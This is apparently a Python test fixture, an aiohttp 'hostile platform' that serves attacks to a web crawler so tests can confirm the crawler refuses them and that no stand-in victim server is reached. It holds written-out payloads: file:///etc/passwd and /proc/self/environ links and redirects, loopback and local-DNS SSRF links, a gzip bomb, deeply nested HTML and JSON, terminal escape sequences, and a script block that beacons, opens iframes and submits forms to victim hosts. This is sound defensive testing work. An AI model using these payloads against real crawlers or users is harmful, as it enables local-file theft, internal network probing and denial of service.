"""demo-hostile: a platform written to hurt the crawler, for the hostile-platform tests.

The platforms we watch are run by the people we investigate, so every byte they send may be
an attack: on the crawler's files, on the investigator's network, on the analyst's
terminal, or on the crawl itself (hangs, floods, memory). This platform serves ordinary
listings next to one page of each hostile kind in `HOSTILE_KINDS`. The tests crawl it with
an ordinary profile (crawler/demo/profiles/demo-hostile*.yaml) and check, kind by kind,
that the crawler does what the kind's `expect` says, that every ordinary listing is
stored, and that nothing reached the "victim" servers the pages point at.

Not part of the default demo world (`crawler run` does not crawl it) and there is no
production profile for it: `DemoWorld(platforms=["demo-hostile"])` or
`crawler demo serve --platform demo-hostile`.

Layout:
- `/list?page=N`: ordinary entries (`ul.ads > li.ad`, link `a.ad-link`, key `span.ad-id`)
  with hostile entries mixed in, `a.next` to the next page;
- `/ad/<key>`: ordinary listings (title `h1.ad-title`, body `div.ad-body`, price `p.price`,
  phone `dd.phone`);
- `/h/<kind>`: one hostile detail page per kind; `/list/<kind>`: hostile list pages
  (extra seeds); `/list/closed` answers 429 with Retry-After: 86400 (a day);
- `/robots.txt` redirects to a victim;
- `/api/posts?page=N`: a JSON API whose second page's `next` is file:///etc/passwd;
  `/api/deep`: a JSON page nested 100,000 levels deep.

`victim_urls` (set by the test before crawling) are the servers the hostile links point
at: another port on this machine and a host name that only a local DNS lookup could
resolve. Text is synthetic and clinical (docs/safety.md); nothing here is media, the "image"
pages are labelled as images but hold text.
"""

from __future__ import annotations

import asyncio
import random
from dataclasses import dataclass, field
from functools import cache
from html import escape

import phonenumbers
from aiohttp import web
from phonenumbers import PhoneNumberFormat, PhoneNumberType

from crawler.demo.base import DemoPlatform, GroundTruthListing
from crawler.demo.world import register_platform
from crawler.models import Price

PAGE_SIZE = 10  # ordinary entries per list page
DEEP_LEVELS = 100_000
WIDE_LINKS = 200_000
BIG_BODY_BYTES = 50 * 1024 * 1024
BOMB_BYTES = 256 * 1024 * 1024  # what the gzip bomb inflates to
LONG_TEXT_CHARS = 3_000_000


@dataclass(frozen=True)
class HostileKind:
    """One hostile thing the platform does, and what the crawler must do about it.

    `expect`:
      refused  - never requested (out of scope, other scheme, media, too long): zero hits
                 anywhere and the refusal counted in the crawl's stats;
      stored   - stored as a listing despite the attack (`check` says what must hold);
      failed   - fetched, failed, recorded as a failed page; the crawl goes on;
      dropped  - fetched, nothing readable: dropped with a counted reason;
      bounded  - a hostile list page: its work is cut to the profile's limits.
    """

    name: str
    what: str
    expect: str
    entry: str | None = None  # href of its list entry ({victim}, {victim_host}, {own})
    key: str | None = None  # listing key when it is expected to be stored
    check: str = ""


HOSTILE_KINDS: tuple[HostileKind, ...] = (
    HostileKind("file_link", "a list link to file:///proc/self/environ", "refused",
                "file:///proc/self/environ"),
    HostileKind("data_link", "a list link to a data: URL holding a page", "refused",
                "data:text/html,%3Ch1%20class%3Dad-title%3Einjected%3C%2Fh1%3E"),
    HostileKind("ftp_link", "a list link to ftp:// on another port", "refused",
                "ftp://127.0.0.1:{victim_port}/"),
    HostileKind("javascript_link", "a javascript: link", "refused",
                "javascript:location='{victim}/js'"),
    HostileKind("other_port", "a link to another port on this machine", "refused",
                "{victim}/ad/other-port"),
    HostileKind("foreign_host", "a link to a host name only local DNS could resolve",
                "refused", "http://victim.example.test:{victim_port}/ad/foreign"),
    HostileKind("localhost_name", "a link to localhost (resolvable from /etc/hosts)",
                "refused", "http://localhost:{victim_port}/ad/localhost"),
    HostileKind("protocol_relative", "a scheme-relative link to another port", "refused",
                "//127.0.0.1:{victim_port}/ad/relative"),
    HostileKind("userinfo", "an authority with user info hiding the real host", "refused",
                "http://127.0.0.1:{own_port}@127.0.0.1:{victim_port}/ad/userinfo"),
    HostileKind("ipv6_loopback", "a link to [::1] on another port", "refused",
                "http://[::1]:{victim_port}/ad/v6"),
    HostileKind("long_url", "a link of 100,000 characters", "refused", "/h/long?" + "x" * 100_000),
    HostileKind("media_link", "a listing link that is an image file", "refused",
                "/h/photo.jpg"),
    HostileKind("redirect_victim", "a redirect to another port", "refused", "/h/redirect-victim"),
    HostileKind("redirect_file", "a redirect to file:///etc/passwd", "refused",
                "/h/redirect-file"),
    HostileKind("redirect_loop", "redirects in a loop", "bounded", "/h/loop-a"),
    HostileKind("meta_refresh_victim", "a meta refresh to another port", "refused",
                "/h/refresh-victim"),
    HostileKind("meta_refresh_loop", "a meta refresh to itself", "bounded", "/h/refresh-self"),
    HostileKind("robots_redirect", "robots.txt redirects to another port", "refused"),
    HostileKind("big_body", "a 50 MB chunked body", "failed", "/h/big"),
    HostileKind("gzip_bomb", "gzip that inflates to 256 MB", "failed", "/h/bomb"),
    HostileKind("slow_drip", "a body sent one byte a second", "failed", "/h/slow"),
    HostileKind("connection_reset", "the connection reset mid-response", "failed", "/h/reset"),
    HostileKind("always_500", "a page that fails every time", "failed", "/h/always-500"),
    HostileKind("image_as_listing", "a listing URL answering image/png", "failed", "/h/photo"),
    HostileKind("binary_as_html", "binary bytes typed as text/html", "dropped", "/h/binary"),
    HostileKind("bad_encoding", "windows-1252 bytes declared as UTF-8", "stored", "/h/latin1",
                "HX-LATIN1", "phone found"),
    HostileKind("unknown_charset", "a charset that does not exist", "stored", "/h/charset",
                "HX-CHARSET", "phone found"),
    HostileKind("deep_nesting", "100,000 nested elements around the body", "stored", "/h/deep",
                "HX-DEEP", "phone found; the flattening recorded on the listing"),
    HostileKind("long_text", "3,000,000 characters of body text", "stored", "/h/longtext",
                "HX-LONG", "body truncated; the truncation recorded on the listing"),
    HostileKind("deep_jsonld", "JSON-LD nested 100,000 levels deep", "stored", "/h/jsonld",
                "HX-JSONLD", "stored from its HTML fields"),
    HostileKind("markup_title", "Rich markup in the title", "stored", "/h/markup", "HX-MARKUP",
                "title stored as written; shown literally"),
    HostileKind("escape_title", "terminal escape sequences and NUL in the title", "stored",
                "/h/escape", "HX-ESCAPE", "no control character stored or printed"),
    HostileKind("hidden_phone", "a phone number broken by zero-width and bidi characters",
                "stored", "/h/hidden-phone", "HX-HIDDEN", "phone found; removal recorded"),
    HostileKind("retry_after", "429 with Retry-After: 2, then the page", "stored", "/h/busy",
                "HX-BUSY", "second request at least 2 s after the first"),
    HostileKind("script_exfiltration", "scripts, frames, forms and prefetches aimed at other "
                "hosts and local files", "stored", "/h/exfil", "HX-EXFIL",
                "nothing reaches another host (browser route: blocked in the browser)"),
    HostileKind("duplicate_links", "one ordinary listing linked 50 times", "bounded"),
    HostileKind("self_list", "a list page that links to itself 1,000 times", "bounded"),
    HostileKind("endless_list", "endless pagination repeating the same entries", "bounded"),
    HostileKind("fresh_list", "endless pagination with new entries on every page", "bounded"),
    HostileKind("wide_list", "a list page of 200,000 links", "bounded"),
)  # fmt: skip

STORED_KINDS = {k.key: k for k in HOSTILE_KINDS if k.expect == "stored"}
LIST_SEEDS = ("/list/self", "/list/endless?page=1", "/list/fresh?page=1", "/list/wide")

# Scripts for the browser route: every way a page could reach another host or a local file.
EXFIL_SCRIPT = """
<script>
try { fetch('{victim}/beacon/fetch'); } catch (e) {}
try { new WebSocket('{ws_victim}/beacon/ws'); } catch (e) {}
try { navigator.sendBeacon('{victim}/beacon/send', 'x'); } catch (e) {}
try { var x = new XMLHttpRequest(); x.open('GET', 'http://victim.example.test:{victim_port}/xhr'); x.send(); } catch (e) {}
try { var f = document.createElement('iframe'); f.src = '{victim}/beacon/iframe'; document.body.appendChild(f); } catch (e) {}
try { var g = document.createElement('iframe'); g.src = 'file:///etc/passwd'; document.body.appendChild(g); } catch (e) {}
try { var s = document.createElement('script'); s.src = 'http://localhost:{victim_port}/beacon/script.js'; document.head.appendChild(s); } catch (e) {}
try { var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{victim}/beacon/style.css'; document.head.appendChild(l); } catch (e) {}
try { window.open('{victim}/beacon/window'); } catch (e) {}
</script>
<link rel="dns-prefetch" href="//victim.example.test">
<link rel="preconnect" href="{victim}">
<form id="f" method="post" action="{victim}/beacon/form"><input name="q" value="1"></form>
<script>
window.addEventListener('load', function () {
  setTimeout(function () { try { document.getElementById('f').submit(); } catch (e) {} }, 0);
});
</script>
"""

_LIST_ITEM = '<li class="ad"><a class="ad-link" href="{href}">{title}</a> <span class="ad-id">{key}</span></li>'


def _page(title: str, main: str, head: str = "", charset: str = "utf-8") -> str:
    return (
        f'<!doctype html><html lang="en"><head><meta charset="{charset}">'
        f"<title>{escape(title)}</title>{head}</head><body>"
        f'<header><a href="/list?page=1">Demo hostile</a></header>'
        f"<main>{main}</main><footer>Synthetic hostile test site.</footer></body></html>"
    )


def _detail(key: str, title: str, body: str, phone: str | None, price: str) -> str:
    """An ordinary-looking detail page; title and body are inserted as given (pre-escaped)."""
    phone_html = (
        f'<dl class="profile"><dt>Phone</dt><dd class="phone">{phone}</dd></dl>' if phone else ""
    )
    return (
        f'<article class="ad-detail"><h1 class="ad-title">{title}</h1>'
        f'<p class="ad-meta">Ad <span class="listing-id">{key}</span></p>'
        f'<p class="price">{price}</p>{phone_html}'
        f'<div class="ad-body">{body}</div></article>'
    )


@cache
def _mobiles(region: str) -> tuple[str, ...]:
    """Valid mobile numbers next to phonenumbers' example number (a range nobody holds)."""
    example = phonenumbers.example_number_for_type(region, PhoneNumberType.MOBILE)
    assert example is not None, region
    base = phonenumbers.format_number(example, PhoneNumberFormat.E164)
    out = []
    for i in range(1000):
        candidate = base[:-3] + f"{i:03d}"
        if phonenumbers.is_valid_number(phonenumbers.parse(candidate)):
            out.append(candidate)
    return tuple(out)


@cache
def _gzip_bomb() -> bytes:
    """BOMB_BYTES of zeros, gzip-compressed (about 250 KB), built once per process."""
    import zlib

    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip container
    chunk = bytes(1024 * 1024)
    parts = [comp.compress(chunk) for _ in range(BOMB_BYTES // len(chunk))]
    parts.append(comp.flush())
    return b"".join(parts)


def _intl(e164: str) -> str:
    return phonenumbers.format_number(phonenumbers.parse(e164), PhoneNumberFormat.INTERNATIONAL)


@dataclass
class _Ordinary:
    key: str
    title: str
    body: str
    phone: str
    price: Price


@register_platform
class HostilePlatform(DemoPlatform):
    name = "demo-hostile"
    env_var = "DEMO_HOSTILE_URL"
    default_port = 8709
    in_default_world = False

    def __init__(self, seed: int = 1, size: int = 30) -> None:
        super().__init__(seed=seed, size=size)
        rng = random.Random(f"{seed}:{self.name}")
        phones = _mobiles("NL")
        self.ordinary: list[_Ordinary] = []
        for i in range(size):
            key = f"H{i + 1:03d}"
            phone = phones[(i * 7 + rng.randrange(50)) % len(phones)]
            amount = float(rng.choice((60, 80, 100, 120, 150)))
            self.ordinary.append(
                _Ordinary(
                    key=key,
                    title=f"Room for rent {key}",
                    body=f"Quiet room near the station, listing {key}. Call {_intl(phone)}.",
                    phone=phone,
                    price=Price(amount=amount, currency="EUR", unit="night"),
                )
            )
        # Set by the test: the servers hostile links point at (they must never be reached).
        self.victim_urls: list[str] = ["http://127.0.0.1:9"]
        self.own_port = 0
        self.hidden_phone = phones[-1]
        self.first_busy_at: float | None = None
        self.busy_hits: list[float] = []

    # -- ground truth ------------------------------------------------------------------

    def ground_truth(self) -> list[GroundTruthListing]:
        out = [
            GroundTruthListing(
                platform=self.name,
                key=o.key,
                path=f"/ad/{o.key}",
                title=o.title,
                body=o.body,
                phones=[o.phone],
                prices=[o.price],
            )
            for o in self.ordinary
        ]
        for kind in HOSTILE_KINDS:
            if kind.expect == "stored" and kind.key and kind.entry:
                phones = [self.hidden_phone] if kind.name in {"hidden_phone", "bad_encoding",
                                                               "unknown_charset", "deep_nesting"} else []  # fmt: skip
                out.append(
                    GroundTruthListing(
                        platform=self.name,
                        key=kind.key,
                        path=kind.entry,
                        title=kind.what,
                        body="",
                        phones=phones,
                    )  # fmt: skip
                )
        return out

    def advance(self) -> None:
        self.step += 1  # a hostile platform does not change; its attacks are the point

    # -- rendering ---------------------------------------------------------------------

    @property
    def victim(self) -> str:
        return self.victim_urls[0]

    @property
    def victim_port(self) -> int:
        return int(self.victim.rsplit(":", 1)[1].split("/")[0])

    def _fill(self, template: str) -> str:
        return (
            template.replace("{victim_port}", str(self.victim_port))
            .replace("{victim_host}", "victim.example.test")
            .replace("{ws_victim}", self.victim.replace("http://", "ws://"))
            .replace("{victim}", self.victim)
            .replace("{own_port}", str(self.own_port))
        )

    def _list_page(self, page: int) -> str:
        pages = max(1, -(-len(self.ordinary) // PAGE_SIZE))
        chunk = self.ordinary[(page - 1) * PAGE_SIZE : page * PAGE_SIZE]
        hostile = [k for k in HOSTILE_KINDS if k.entry][page - 1 :: pages]
        items = [
            _LIST_ITEM.format(href=f"/ad/{o.key}", title=escape(o.title), key=o.key) for o in chunk
        ]
        for kind in hostile:
            href = escape(self._fill(kind.entry or ""), quote=True)
            items.append(_LIST_ITEM.format(href=href, title=escape(kind.what), key=kind.key or ""))
        if page == 1 and self.ordinary:
            first = self.ordinary[0]
            items += [
                _LIST_ITEM.format(href=f"/ad/{first.key}", title="duplicate", key=first.key)
            ] * 50
        nxt = f'<a class="next" href="/list?page={page + 1}">Next</a>' if page < pages else ""
        return _page(f"page {page}", f'<ul class="ads">{"".join(items)}</ul><nav>{nxt}</nav>')

    def _hostile_detail(self, kind: str) -> tuple[str, str, str]:
        """(key, title html, body html) of a stored-kind page."""
        hidden = self.hidden_phone
        spaced = _intl(hidden)
        if kind == "markup_title":
            return (
                "HX-MARKUP",
                escape("Room [/bold] [red]offer[/red] [link=file:///etc/passwd]x[/link]"),
                "Quiet room.",
            )
        if kind == "escape_title":
            return (
                "HX-ESCAPE",
                "Room\x1b]0;owned\x07\x1b[2J\x1b[31m red\x00nul \x9b31m c1",
                "Quiet room\x1b[5m.",
            )
        if kind == "hidden_phone":
            broken = (
                spaced[:5]
                + "\u200b"
                + spaced[5:8]
                + "\u202e"
                + spaced[8:11]
                + "\u2066\u00ad"
                + spaced[11:]
                + "\ufeff"
            )
            return "HX-HIDDEN", "Room with a hidden number", f"Call {broken} today."
        raise KeyError(kind)

    # -- the application ---------------------------------------------------------------

    def make_app(self) -> web.Application:
        app = web.Application(client_max_size=1024 * 1024)
        r = app.router
        r.add_get("/robots.txt", self._robots)
        r.add_get("/list", self._list)
        r.add_get("/list/self", self._list_self)
        r.add_get("/list/endless", self._list_endless)
        r.add_get("/list/fresh", self._list_fresh)
        r.add_get("/list/wide", self._list_wide)
        r.add_get("/list/closed", self._list_closed)
        r.add_get("/ad/{key}", self._ad)
        r.add_get("/w/{n}", self._gone)
        r.add_get("/h/{kind}", self._h)
        r.add_get("/api/posts", self._api)
        r.add_get("/api/deep", self._api_deep)
        r.add_route("*", "/{tail:.*}", self._other)
        return app

    def _html(self, text: str, status: int = 200) -> web.Response:
        return web.Response(text=text, status=status, content_type="text/html", charset="utf-8")

    async def _robots(self, request: web.Request) -> web.Response:
        self.requests["robots"] += 1
        raise web.HTTPFound(f"{self.victim}/robots.txt")

    async def _other(self, request: web.Request) -> web.Response:
        self.requests["other"] += 1
        return web.Response(status=404, text="not found")

    async def _gone(self, request: web.Request) -> web.Response:
        self.requests["wide_detail"] += 1
        return web.Response(status=410, text="gone")

    async def _list(self, request: web.Request) -> web.Response:
        self.requests["list"] += 1
        page = int(request.query.get("page", "1") or 1)
        return self._html(self._list_page(page))

    async def _list_self(self, request: web.Request) -> web.Response:
        self.requests["list_self"] += 1
        items = _LIST_ITEM.format(href="/list/self", title="self", key="") * 1000
        return self._html(
            _page("self", f'<ul class="ads">{items}</ul><a class="next" href="/list/self">Next</a>')
        )

    async def _list_endless(self, request: web.Request) -> web.Response:
        self.requests["list_endless"] += 1
        page = int(request.query.get("page", "1") or 1)
        items = "".join(
            _LIST_ITEM.format(href=f"/ad/{o.key}", title=escape(o.title), key=o.key)
            for o in self.ordinary[:3]
        )
        nxt = f'<a class="next" href="/list/endless?page={page + 1}">Next</a>'
        return self._html(_page("endless", f'<ul class="ads">{items}</ul>{nxt}'))

    async def _list_fresh(self, request: web.Request) -> web.Response:
        self.requests["list_fresh"] += 1
        page = int(request.query.get("page", "1") or 1)
        items = "".join(
            _LIST_ITEM.format(
                href=f"{self.victim}/fresh/{page}/{i}", title="fresh", key=f"F{page}-{i}"
            )
            for i in range(2)
        )
        nxt = f'<a class="next" href="/list/fresh?page={page + 1}">Next</a>'
        return self._html(_page("fresh", f'<ul class="ads">{items}</ul>{nxt}'))

    async def _list_wide(self, request: web.Request) -> web.Response:
        self.requests["list_wide"] += 1
        body = "".join(
            f"<li class=ad><a class=ad-link href=/w/{n}>w</a>" for n in range(WIDE_LINKS)
        )
        return self._html(f"<html><body><ul class=ads>{body}</ul></body></html>")

    async def _list_closed(self, request: web.Request) -> web.Response:
        # "Come back tomorrow": longer than any crawl should wait.
        self.requests["list_closed"] += 1
        return web.Response(status=429, headers={"Retry-After": "86400"}, text="closed")

    async def _ad(self, request: web.Request) -> web.Response:
        self.requests["detail"] += 1
        key = request.match_info["key"]
        for o in self.ordinary:
            if o.key == key:
                price = f"{o.price.amount:.0f} EUR per night"
                main = _detail(
                    o.key, escape(o.title), escape(o.body), escape(_intl(o.phone)), price
                )
                return self._html(_page(o.title, main))
        return web.Response(status=404, text="no such ad")

    async def _api(self, request: web.Request) -> web.Response:
        self.requests["api"] += 1
        page = int(request.query.get("page", "1") or 1)
        if page == 1:
            posts = [{"id": o.key, "title": o.title, "text": o.body} for o in self.ordinary[:5]]
            return web.json_response({"data": {"posts": posts}, "next": "/api/posts?page=2"})
        if page == 2:
            posts = [{"id": o.key, "title": o.title, "text": o.body} for o in self.ordinary[5:10]]
            return web.json_response({"data": {"posts": posts}, "next": "file:///etc/passwd"})
        return web.json_response({"data": {"posts": []}, "next": f"{self.victim}/api"})

    async def _api_deep(self, request: web.Request) -> web.Response:
        # 100,000 nested arrays: a JSON parser that recurses dies here.
        self.requests["api_deep"] += 1
        return web.Response(text="[" * 100_000 + "]" * 100_000, content_type="application/json")

    async def _h(self, request: web.Request) -> web.StreamResponse:  # noqa: C901 - one branch per kind
        kind = request.match_info["kind"]
        self.requests[f"h:{kind}"] += 1
        own = f"http://{request.host}"
        if kind == "redirect-victim":
            raise web.HTTPFound(f"{self.victim}/ad/redirected")
        if kind == "redirect-file":
            raise web.HTTPFound("file:///etc/passwd")
        if kind == "loop-a":
            raise web.HTTPFound("/h/loop-b")
        if kind == "loop-b":
            raise web.HTTPFound("/h/loop-a")
        if kind == "refresh-victim":
            head = f'<meta http-equiv="refresh" content="0;url={self.victim}/ad/refreshed">'
            return self._html(_page("refresh", "<p>moved</p>", head))
        if kind == "refresh-self":
            head = f'<meta http-equiv="refresh" content="0;url={own}/h/refresh-self">'
            return self._html(_page("refresh", "<p>moved</p>", head))
        if kind == "always-500":
            return web.Response(status=500, text="internal error")
        if kind == "big":
            resp = web.StreamResponse(headers={"Content-Type": "text/html"})
            resp.enable_chunked_encoding()
            await resp.prepare(request)
            chunk = b"<p>" + b"x" * (64 * 1024 - 7) + b"</p>\n"
            try:
                for _ in range(BIG_BODY_BYTES // len(chunk)):
                    await resp.write(chunk)
            except (ConnectionError, RuntimeError):
                return resp
            await resp.write_eof()
            return resp
        if kind == "bomb":
            return web.Response(
                body=_gzip_bomb(),
                headers={"Content-Type": "text/html", "Content-Encoding": "gzip"},
            )
        if kind == "slow":
            resp = web.StreamResponse(headers={"Content-Type": "text/html"})
            resp.enable_chunked_encoding()
            await resp.prepare(request)
            try:
                await resp.write(b"<html><body><h1 class=ad-title>slow</h1>")
                for _ in range(600):
                    await asyncio.sleep(1)
                    await resp.write(b" ")
            except (ConnectionError, RuntimeError, asyncio.CancelledError):
                return resp
            return resp
        if kind == "reset":
            resp = web.StreamResponse(headers={"Content-Type": "text/html"})
            await resp.prepare(request)
            await resp.write(b"<html><body><h1 class=ad-title>reset")
            if request.transport is not None:
                request.transport.abort()
            return resp
        if kind == "photo":
            # Labelled as an image; the bytes are text (no media in fixtures, ever).
            return web.Response(body=b"not an image, only labelled as one\n" * 100,
                                content_type="image/png")  # fmt: skip
        if kind == "photo.jpg":
            return web.Response(body=b"not an image\n", content_type="image/jpeg")
        if kind == "binary":
            rng = random.Random(7)
            return web.Response(body=bytes(rng.randrange(256) for _ in range(20_000)),
                                content_type="text/html")  # fmt: skip
        if kind == "latin1":
            main = _detail("HX-LATIN1", "Caf\u00e9 room \u2013 quiet", "Caf\u00e9 near the station, "
                           f"call {_intl(self.hidden_phone)} \u201ctoday\u201d.", None, "60 EUR per night")  # fmt: skip
            return web.Response(body=_page("latin1", main).encode("cp1252"),
                                headers={"Content-Type": "text/html; charset=utf-8"})  # fmt: skip
        if kind == "charset":
            main = _detail("HX-CHARSET", "Room, unknown charset", f"Call {_intl(self.hidden_phone)}.",
                           None, "60 EUR per night")  # fmt: skip
            return web.Response(body=_page("charset", main, charset="x-no-such-charset").encode(),
                                headers={"Content-Type": "text/html; charset=x-no-such-charset"})  # fmt: skip
        if kind == "deep":
            inner = _detail("HX-DEEP", "Room inside deep nesting",
                            f"Deep text, call {_intl(self.hidden_phone)}.", None, "60 EUR per night")  # fmt: skip
            body = "<div>" * DEEP_LEVELS + inner + "</div>" * DEEP_LEVELS
            return self._html(_page("deep", body))
        if kind == "longtext":
            filler = ("Quiet room near the station. " * (LONG_TEXT_CHARS // 29 + 1))[
                :LONG_TEXT_CHARS
            ]
            return self._html(_page("long", _detail("HX-LONG", "Room with a long text", filler,
                                                     None, "60 EUR per night")))  # fmt: skip
        if kind == "jsonld":
            head = (
                '<script type="application/ld+json">' + "[" * 100_000 + "]" * 100_000 + "</script>"
            )
            main = _detail(
                "HX-JSONLD", "Room with deep JSON-LD", "Quiet room.", None, "60 EUR per night"
            )
            return self._html(_page("jsonld", main, head))
        if kind in {"markup", "escape", "hidden-phone"}:
            name = {
                "markup": "markup_title",
                "escape": "escape_title",
                "hidden-phone": "hidden_phone",
            }[kind]
            key, title, body = self._hostile_detail(name)
            return self._html(_page("room", _detail(key, title, body, None, "60 EUR per night")))
        if kind == "busy":
            loop_time = asyncio.get_running_loop().time()
            self.busy_hits.append(loop_time)
            if len(self.busy_hits) == 1:
                return web.Response(status=429, headers={"Retry-After": "2"}, text="slow down")
            main = _detail("HX-BUSY", "Room after a 429", "Quiet room.", None, "60 EUR per night")
            return self._html(_page("busy", main))
        if kind == "long":
            return self._html(_page("long url", "<p>reached</p>"))
        if kind == "exfil":
            main = _detail("HX-EXFIL", "Room with scripts", "Quiet room.", None, "60 EUR per night")
            return self._html(_page("exfil", main, self._fill(EXFIL_SCRIPT)))
        return web.Response(status=404, text="no such page")


@dataclass
class VictimServer:
    """Counts every request that reaches it (HTTP and WebSocket): it must count zero."""

    hits: list[str] = field(default_factory=list)

    def make_app(self) -> web.Application:
        app = web.Application()

        async def any_request(request: web.Request) -> web.StreamResponse:
            self.hits.append(f"{request.method} {request.path_qs}")
            if request.headers.get("Upgrade", "").lower() == "websocket":
                ws = web.WebSocketResponse()
                await ws.prepare(request)
                await ws.close()
                return ws
            return web.Response(text="<h1 class=ad-title>victim</h1><div class=ad-body>secret</div>",
                                content_type="text/html")  # fmt: skip

        app.router.add_route("*", "/{tail:.*}", any_request)
        return app


__all__ = ["HOSTILE_KINDS", "HostileKind", "HostilePlatform", "LIST_SEEDS", "VictimServer"]
